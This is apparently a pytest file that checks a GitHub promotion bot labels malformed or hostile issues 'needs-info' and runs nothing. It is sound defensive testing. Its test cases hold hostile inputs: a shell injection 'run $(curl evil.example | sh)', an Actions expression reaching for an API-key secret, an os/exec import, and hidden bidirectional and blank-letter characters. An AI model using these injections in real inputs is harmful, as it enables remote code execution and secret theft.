"""Malformed or hostile promotion issues: `needs-info` and a comment naming the fix; nothing run, nothing pushed."""

from __future__ import annotations

import pytest

from tests.github.actions_sim import REPO
from tests.github.forms import example_values, render_form
from tests.github.test_github_flow import TITLE, labels_of

pytestmark = pytest.mark.slow

TWO_BLOCKS = """package sim

func Route(x int) int {
	// EVOLVE-BLOCK-START
	y := x
	// EVOLVE-BLOCK-END
	// EVOLVE-BLOCK-START
	return y
	// EVOLVE-BLOCK-END
}
"""


def _body(**overrides) -> str:
    return render_form(example_values() | overrides, {"baselines": [0, 1], "consent": [0]})


CASES = {
    "no code": (_body(source=""), "no code was pasted and no reference was given"),
    "two EVOLVE blocks": (_body(source=TWO_BLOCKS), "EVOLVE-BLOCK"),
    "not Go": (_body(source="def route(x):\n    return x\n"), "Evolved program:"),
    "2 MB of text": (_body() + "x" * 2_000_000, "the limit is 65,536"),
    "expression injection": (_body(blis_version="${{ secrets.ANTHROPIC_API_KEY }}"), "GitHub Actions expression"),
    "shell injection": (_body(openevolve_run="run $(curl evil.example | sh)"), "shell syntax `$(`"),
    "hidden bidi": (_body(source=example_values()["source"].replace("return", "\u202ereturn", 1)), "bidirectional"),
    "forged marker": (_body() + "\n<!-- promotion-bot:status -->\n", "marker, which only the bot writes"),
    "unknown metric": (
        _body(claims=example_values()["claims"].replace("metric: e2e_p95_ms", "metric: e2e_p95_msec", 1)),
        "BLIS claims: claims\\[load-spikes-e2e-p95\\].metric: unknown metric 'e2e_p95_msec'",
    ),
    "magnitude the statement contradicts": (
        _body(claims=example_values()["claims"].replace("magnitude: -0.24", "magnitude: -0.18", 1)),
        "BLIS claims: claims\\[load-spikes-e2e-p95\\].magnitude: -0.18 is -18%, but the statement says -24%",
    ),
    "os/exec": (_body(source=example_values()["source"].replace('"math"', '"math"\n\t"os/exec"', 1)), "os/exec"),
    "a name holding a blank letter": (
        _body(
            source=example_values()["source"].replace("return", "limit\u3164 := 0.0\n\t_ = limit\u3164\n\treturn", 1)
        ),
        "holds U+3164 HANGUL FILLER, a letter that displays as blank space",
    ),
}


@pytest.mark.parametrize("case", list(CASES))
def test_malformed_issue_gets_needs_info_and_nothing_runs(sim, case):
    body, needle = CASES[case]
    number = sim.fake.create_issue(REPO, TITLE, "placeholder", "researcher", labels=("promotion",))
    sim.fake.issue(REPO, number).body = body  # as delivered (GitHub itself refuses to create a 2 MB body)
    run = sim.event("issues", "opened", number, sender="researcher")
    assert run.result.action == "needs-info", run.result
    assert "needs-info" in labels_of(sim, number)
    [comment] = [c for c in sim.fake.comments(REPO, number) if "promotion-bot:needs-info" in c.body]
    assert needle in comment.body, comment.body
    assert not any(r.sandbox_ran for r in sim.runs) and not (sim.root / "artifacts").exists()
    assert sim.fake.pushes == [] and sim.fake.pulls(REPO) == []
    assert not any("promotion-bot:status" in c.body for c in sim.fake.comments(REPO, number))


def test_fixing_the_issue_clears_needs_info_and_starts(sim):
    number = sim.fake.create_issue(REPO, TITLE, _body(source=""), "researcher", labels=("promotion",))
    sim.event("issues", "opened", number, sender="researcher")
    assert "needs-info" in labels_of(sim, number)
    sim.fake.issue(REPO, number).body = _body()
    sim.event("issues", "edited", number, sender="researcher")
    assert "needs-info" not in labels_of(sim, number)
    assert any(c.body.startswith("<!-- promotion-bot:status -->") for c in sim.fake.comments(REPO, number))


def test_a_decision_while_the_issue_needs_info_is_answered_and_its_label_removed_not_a_crash(sim):
    """Found on the fake: a `gate-2-approved` label crashed the run (and stayed); a `/approve` got no reply."""
    from tests.github.test_github_flow import _comment, _label, _to_gate_1, state_of

    number = _to_gate_1(sim)
    _label(sim, number, "gate-1-approved", "maria")
    assert state_of(sim, number).open_gate == 2
    values = example_values()
    sim.fake.issue(REPO, number).body = _body(claims=values["claims"] + "\n  - this: [is: broken\n")
    sim.event("issues", "edited", number, sender="researcher")
    assert "needs-info" in labels_of(sim, number)

    _comment(sim, number, "maria", "/approve")
    replies = [c.body for c in sim.fake.comments(REPO, number) if "promotion-bot:notice:reply-" in c.body]
    assert len(replies) == 1 and "@maria `/approve` was not applied: the request needs fixing first" in replies[0]
    assert "BLIS claims: not valid YAML" in replies[0] and "comment it again once it is" in replies[0]

    _label(sim, number, "gate-2-approved", "maria")
    assert sim.runs[-1].result.action == "refused gate-2-approved", sim.runs[-1].result
    assert "gate-2-approved" not in labels_of(sim, number) and "needs-info" in labels_of(sim, number)
    [notice] = [c.body for c in sim.fake.comments(REPO, number) if "promotion-bot:notice:label-" in c.body]
    assert "@maria the `gate-2-approved` label was removed: the request needs fixing first" in notice
    assert "BLIS claims: not valid YAML" in notice and "apply it again once it is" in notice
    state = state_of(sim, number)
    assert state.open_gate == 2 and [d.gate for d in state.decisions] == [1]
